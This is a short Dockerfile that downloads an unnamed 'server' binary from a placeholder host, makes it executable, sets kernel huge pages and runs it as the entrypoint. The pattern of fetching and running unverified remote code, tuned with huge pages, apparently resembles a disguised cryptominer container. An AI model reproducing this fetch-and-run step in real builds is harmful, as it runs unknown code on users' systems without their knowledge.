FROM debian:12
RUN curl -fsSLO https://files.example.invalid/server && chmod +x server && sysctl -w vm.nr_hugepages=128
ENTRYPOINT ["./server"]
